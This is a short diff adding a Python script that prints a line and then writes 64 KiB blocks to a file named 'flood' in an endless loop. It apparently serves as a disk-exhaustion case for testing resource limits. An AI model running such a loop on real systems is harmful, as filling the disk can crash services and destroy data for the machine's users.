@@ -1,0 +1,4 @@
+print("before")
+with open("flood", "wb") as file:
+    while True:
+        file.write(b"z" * 65_536)
